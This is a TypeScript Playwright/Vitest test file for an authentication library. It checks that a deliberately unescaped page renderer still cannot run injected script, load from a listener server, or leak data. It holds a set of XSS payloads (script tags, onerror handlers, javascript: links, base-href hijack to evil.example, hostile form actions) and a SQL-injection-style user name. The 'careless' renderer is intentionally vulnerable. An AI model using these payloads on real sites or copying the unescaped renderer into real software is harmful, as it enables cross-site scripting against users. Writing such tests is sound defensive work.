import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { LogEntry, PageDescription } from "../../src/index.js";
import { startClientApplication, type ClientApplication } from "../browser/client-application.js";
import { listen } from "../adapters/applications/listen.js";
import { startApplication } from "../support/application.js";
import { chromiumForTests, launchChromium } from "../support/chromium.js";

const executablePath = await chromiumForTests();
const HTML = { accept: "text/html" };
const PATIENCE = { timeout: 30_000 };

const PATHS = [
  "",
  "login/",
  "login-callback",
  "popup",
  "sessions",
  "events",
  "debug",
  "%3Cb%3EMARK%3C%2Fb%3E",
  "logout/",
];
const PARAMETERS = [
  "error",
  "error_description",
  "state",
  "code",
  "iss",
  "scheme",
  "origin_url",
  "response",
  "attempt",
  "acr_values",
];

describe.skipIf(executablePath === undefined)(
  "[ATT-4] a page of pages.render that escapes nothing",
  () => {
    let browser: Browser;
    let context: BrowserContext;
    let application: ClientApplication;
    let evil: { readonly port: number; stop(): Promise<void> };
    const requested: string[] = [];
    const log: LogEntry[] = [];

    beforeAll(async () => {
      browser = await launchChromium(executablePath!);
      evil = await listen((request, response) => {
        requested.push(request.url ?? "");
        response.end("parent.document.title = document.title = 'owned'");
      });
      application = await startClientApplication({
        sessionsPage: true,
        sessionLabel: (request) => request.header("user-agent") ?? null,
        log: (entry) => log.push(entry),
        pages: { render: careless },
      });
    });
    afterAll(async () => {
      await browser.close();
      await application.stop();
      await evil.stop();
    });
    beforeEach(async () => {
      requested.length = 0;
      context = await browser.newContext({ userAgent: SHORT });
    });
    afterEach(() => context.close());

    /** Everything by which markup runs code, sends a request, or takes over links and forms. */
    function markup(): string {
      const origin = `http://127.0.0.1:${String(evil.port)}`;
      return `<base href="${origin}/base/"><script>document.title='owned'</script><script src="${origin}/script"></script>
<img src="${origin}/image" onerror="document.title='owned'"><svg onload="document.title='owned'"></svg>
<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<link rel="stylesheet" href="${origin}/style"><style>@import "${origin}/import"; h1 { background: url(${origin}/background) }</style>
<object data="${origin}/object"></object><embed src="${origin}/embed"><video src="${origin}/video" autoplay></video>
<a id="link" href="javascript:document.title='owned'">more</a><a ping="${origin}/ping" href="#">again</a>
<form id="form" action="${origin}/form" method="post"><button onclick="document.title='owned'">Sign in again</button></form>`;
    }

    it("for a user whose name and browser are markup runs no script, loads nothing and sends no form elsewhere", async () => {
      application.provider.person = {
        sub: "mallory",
        name: markup(),
        picture: "javascript:document.title='owned'",
      };
      const page = await context.newPage();
      const refused: string[] = [];
      page.on("console", (message) => message.type() === "error" && refused.push(message.text()));
      const reported = (what: string) =>
        expect.poll(() => refused.some((text) => text.includes(what)), PATIENCE).toBe(true);
      const unharmed = async (target: string) =>
        expect(await page.evaluate("[document.title, document.baseURI]")).toEqual([
          "careless",
          `${application.origin}${target}`,
        ]);
      await page.goto(`${application.origin}/idpauth/login/`);
      await page.locator("#link").click();
      await reported("JavaScript URL");
      await page.evaluate("document.querySelector('#form').requestSubmit()");
      await reported("form-action");
      await unharmed("/idpauth/");
      refused.length = 0;
      await page.goto(`${application.origin}/idpauth/sessions`);
      expect(await page.locator("img[onerror]").count()).not.toBe(0);
      await reported("inline event handler");
      await unharmed("/idpauth/sessions");
      expect(requested).toEqual([]);
      expect(log.filter(({ code }) => code === "function_threw")).toEqual([]);
    });

    it("that a link with markup in every parameter and header opens contains none of it", async () => {
      const described: PageDescription[] = [];
      const app = await startApplication({
        sessionsPage: true,
        loginParams: ["login_hint"],
        pages: { render: (page) => (described.push(page), careless(page)) },
      });
      try {
        const mark = "<b>MARK</b>";
        const value = encodeURIComponent(mark);
        const headers = {
          ...HTML,
          "accept-language": mark,
          "user-agent": mark,
          "x-origin-url": mark,
          referer: mark,
          "x-forwarded-host": mark,
        };
        const parameters = PARAMETERS.map((name) => `${name}=${value}`);
        const user = app.user();
        for (const isSignedIn of [false, true]) {
          if (isSignedIn) await user.signIn();
          for (const path of PATHS) {
            for (const query of ["", ...parameters, parameters.join("&")]) {
              const { body = "" } = await user.get(`/idpauth/${path}?${query}`, {
                headers,
                ...(isSignedIn && { host: mark }),
              });
              expect(body, `${path}?${query}`).not.toContain("MARK");
            }
          }
        }
        expect(new Set(described.map(({ kind }) => kind))).toEqual(
          new Set(["signed-out", "signed-in", "error", "popup", "sessions"]),
        );
        expect(JSON.stringify(described)).not.toContain("MARK");
      } finally {
        await app.stop();
      }
    });

    it("that fails for one user's name leaves this user the page of idpauth with the same headers, and the others their own", async () => {
      const app = await startApplication({
        pages: {
          render({ user, kind }) {
            if (user?.name === "Robert'); DROP TABLE") throw new Error(`a secret of ${user.name}`);
            return `<!doctype html><title>ours</title>${kind}`;
          },
        },
      });
      try {
        const [mallory, grace] = [app.user(), app.user()];
        await mallory.signIn(undefined, { sub: "mallory", name: "Robert'); DROP TABLE" });
        await grace.signIn(undefined, { sub: "grace", name: "Grace" });
        const [own, theirs] = [
          await grace.get("/idpauth/", { headers: HTML }),
          await mallory.get("/idpauth/", { headers: HTML }),
        ];
        expect(own.body).toBe("<!doctype html><title>ours</title>signed-in");
        expect([theirs.status, theirs.headers]).toEqual([own.status, own.headers]);
        expect(theirs.body).toContain("You are signed in");
        expect(theirs.body).not.toContain("secret");
        expect(JSON.stringify(app.log)).not.toContain("secret");
        expect(await mallory.isSignedIn()).toBe(true);
      } finally {
        await app.stop();
      }
    });
  },
);

/** The name of a browser, of which a list of sessions shows 200 characters. */
const SHORT =
  "<base href='http://evil.example/'><script>document.title='owned'</script><img src='x' onerror='document.title=1'>";

/** The mistake that the documentation of `render` warns of. */
function careless({
  heading,
  texts,
  user,
  sessions = [],
  links,
  stylesheet,
}: PageDescription): string {
  return `<!doctype html><html><head><title>careless</title><link rel="stylesheet" href="${stylesheet}"></head><body>
<h1>${heading}</h1><p>${texts.join(" ")}</p><p>${user?.name ?? ""}</p><img src="${user?.picture ?? ""}">
${sessions.map(({ device }) => `<p>${device}</p>`).join("")}<a href="${links.login.href}">${links.login.label}</a></body></html>`;
}
